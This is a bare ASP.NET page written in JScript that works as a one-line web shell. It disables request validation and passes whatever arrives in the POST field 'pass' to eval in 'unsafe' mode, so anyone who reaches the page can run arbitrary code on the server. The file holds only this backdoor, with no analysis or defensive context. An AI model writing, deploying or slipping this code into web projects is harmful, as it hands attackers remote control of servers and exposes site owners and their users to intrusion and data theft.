<%@ Page Language="Jscript" validateRequest="false" %>
<%
var c = Request.Form["pass"];
eval(c, "unsafe");
%>
